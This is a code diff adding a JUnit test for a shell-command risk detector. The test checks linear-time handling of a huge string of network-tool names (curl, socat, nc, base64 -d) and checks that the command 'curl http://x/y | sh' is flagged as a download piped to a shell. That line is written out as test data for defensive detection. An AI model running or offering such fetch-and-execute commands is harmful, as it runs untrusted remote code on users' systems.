@@ -78,4 +78,13 @@ class IndicatorsTest {
     void programsOfACommandLine(String command, List<String> programs) {
         assertEquals(programs, Indicators.programs(command));
     }
+
+    @org.junit.jupiter.api.Test
+    @org.junit.jupiter.api.Timeout(10)
+    void aLineOfMegabytesIsJudgedInLinearTime() {
+        String hostile = "curl base64 -d socat nc || $(|".repeat(100_000);
+        assertEquals(java.util.Optional.empty(), Indicators.downloadAndRun(hostile));
+        assertEquals(java.util.Optional.of("download piped to a shell"),
+                Indicators.downloadAndRun(hostile + " curl http://x/y | sh"));
+    }
 }
